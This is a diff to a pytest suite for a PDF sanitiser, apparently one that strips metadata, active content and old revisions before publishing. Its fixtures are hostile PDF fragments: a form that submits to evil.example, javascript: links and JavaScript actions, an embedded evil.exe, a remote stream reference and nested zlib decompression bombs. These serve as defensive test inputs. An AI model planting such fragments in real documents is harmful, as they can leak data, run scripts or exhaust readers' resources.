@@ -65,7 +65,7 @@ def test_a_photo_inside_loses_the_place_where_it_was_taken(look: Look) -> None:
     image = files.stream(
         photo, b"/Type/XObject/Subtype/Image/Width 64/Height 48/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode"
     )
-    body = files.pdf(root=b"/Kept 12 0 R", objects=[image])
+    body = files.pdf(resources=b"/XObject<</Photo 12 0 R>>", objects=[image])
     assert b"Exif" in body
     published = look(body).body("original.pdf")
     assert b"Exif" not in published
@@ -82,10 +82,16 @@ ACTIONS = {
         b"/Names<</EmbeddedFiles<</Names[(a)12 0 R]>>>>",
         (b"<</Type/Filespec/F(evil.exe)/EF<</F 13 0 R>>>>", files.stream(b"MZ evil.exe", b"/Type/EmbeddedFile")),
     ),
-    "a form that sends": (b"/Kept[<</A<</S/SubmitForm/F(https://evil.example)>>>>]", ()),
-    "a link that runs": (b"/Kept[<</A<</S/URI/URI(javascript:alert(1))>>>>]", ()),
-    "what follows a harmless step": (b"/Kept[<</A<</S/GoTo/D[0]/Next<</S/JavaScript/JS(app.alert(1))>>>>>>]", ()),
-    "bytes from elsewhere": (b"/Kept 12 0 R", (files.stream(b"", b"/F(//evil.example/share)"),)),
+    "a form that sends": (b"/Outlines<</First<</Title(a)/A<</S/SubmitForm/F(https://evil.example)>>>>>>", ()),
+    "a link that runs": (b"/Outlines<</First<</Title(a)/A<</S/URI/URI(javascript:alert(1))>>>>>>", ()),
+    "what follows a harmless step": (
+        b"/Outlines<</First<</Title(a)/A<</S/GoTo/D[0]/Next<</S/JavaScript/JS(app.alert(1))>>>>>>>>",
+        (),
+    ),
+    "bytes from elsewhere": (
+        b"/OutputIntents[<</DestOutputProfile 12 0 R>>]",
+        (files.stream(b"", b"/F(//evil.example/share)"),),
+    ),
     "a form's program": (b"/AcroForm<</Fields[]/XFA 12 0 R>>", (files.stream(b"<xdp>app.alert(1)</xdp>"),)),
 }
 
@@ -99,9 +105,9 @@ def test_nothing_that_acts_is_published(look: Look, what: str) -> None:
 
 
 def test_links_to_other_places_stay(look: Look) -> None:
-    root = b"/Kept[<</A<</S/URI/URI(https://example.com/book)>>>><</A<</S/GoTo/D[0]>>>>]"
-    published = pypdf.PdfReader(io.BytesIO(look(files.pdf(root=root)).body("original.pdf")))
-    first, second = published.root_object["/Kept"]
+    page = b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.com/book)>>>><</Subtype/Link/A<</S/GoTo/D[0]>>>>]"
+    published = pypdf.PdfReader(io.BytesIO(look(files.pdf(page=page)).body("original.pdf")))
+    first, second = published.pages[0]["/Annots"]
     assert first["/A"]["/URI"] == "https://example.com/book"
     assert second["/A"]["/S"] == "/GoTo"
 
@@ -166,9 +172,34 @@ def test_a_page_that_is_a_strip_is_drawn_as_far_as_variants_go(look: Look) -> No
 def test_streams_that_unfold_without_end_are_refused(look: Look) -> None:
     bomb = zlib.compress(bytes(2**30), 9)
     objects = [files.stream(bomb, b"/Filter/FlateDecode") for _ in range(2)]
-    body = files.pdf(root=b"/Kept[12 0 R 13 0 R]", objects=objects)
+    body = files.pdf(resources=b"/ColorSpace<</A[/ICCBased 12 0 R]/B[/ICCBased 13 0 R]>>", objects=objects)
     assert len(body) < 3_000_000
     assert refusal(look, body) == "too_slow"
+
+
+@pytest.mark.parametrize("chain", [b"/FlateDecode/FlateDecode", b"/ASCIIHexDecode/Fl/FlateDecode"])
+def test_every_stage_of_a_stream_is_counted(look: Look, chain: bytes) -> None:
+    bomb = zlib.compress(zlib.compress(bytes(2**28), 9), 9)
+    bomb = bomb.hex().encode() + b">" if b"Hex" in chain else bomb
+    body = files.pdf(resources=b"/XObject<</A 12 0 R>>", objects=[files.stream(bomb, b"/Subtype/Image/Filter[" + chain + b"]")])
+    assert refusal(look, body) == "too_slow"
+
+
+def test_a_stream_behind_an_unknown_filter_is_left_out(look: Look) -> None:
+    image = files.stream(b"Ada Place", b"/Subtype/Image/Filter[/FlateDecode/NewDecode]")
+    published = look(files.pdf(resources=b"/XObject<</A 12 0 R>>", objects=[image])).body("original.pdf")
+    assert b"Ada" not in published
+    assert text_of(published) == "Prices"
+
+
+@pytest.mark.parametrize("before", [b"\xef\xbb\xbf", b"\r\n", b"\n<!-- x -->\n", b"HTTP/1.1 200 OK\r\n\r\n", b" " * 1000])
+def test_a_pdf_may_begin_a_little_later(look: Look, before: bytes) -> None:
+    assert text_of(look(before + files.pdf()).body("original.pdf")) == "Prices"
+
+
+@pytest.mark.parametrize("after", [bytes(5000), bytes(4087), b" " * 100_000, b"\r\n" * 3000 + bytes(9)])
+def test_a_pdf_may_be_filled_up_to_a_block(look: Look, after: bytes) -> None:
+    assert text_of(look(files.pdf() + after).body("original.pdf")) == "Prices"
 
 
 @pytest.mark.parametrize("where", ["before", "after"])
@@ -194,12 +225,12 @@ def test_what_follows_the_end_is_not_published(look: Look) -> None:
 
 def test_what_was_there_before_a_change_is_not_published(look: Look) -> None:
     """A PDF that was changed keeps what it said before; only what it says now is written again."""
-    body = files.pdf(root=b"/Kept 12 0 R", objects=[b"(an old secret)"])
+    body = files.pdf(root=b"/Lang 12 0 R", objects=[b"(an old secret)"])
     change = b"12 0 obj\n(new)\nendobj\n"
     before = int(body.rpartition(b"startxref\n")[2].split()[0])
     table = b"xref\n12 1\n%010d 00000 n \ntrailer\n<</Root 1 0 R/Size 13/Prev %d>>\n" % (len(body), before)
     body += change + table + b"startxref\n%d\n%%%%EOF\n" % (len(body) + len(change))
-    assert pypdf.PdfReader(io.BytesIO(body)).root_object["/Kept"] == "new"
+    assert pypdf.PdfReader(io.BytesIO(body)).root_object["/Lang"] == "new"
     published = look(body).body("original.pdf")
     assert b"an old secret" not in published
-    assert pypdf.PdfReader(io.BytesIO(published)).root_object["/Kept"] == "new"
+    assert pypdf.PdfReader(io.BytesIO(published)).root_object["/Lang"] == "new"
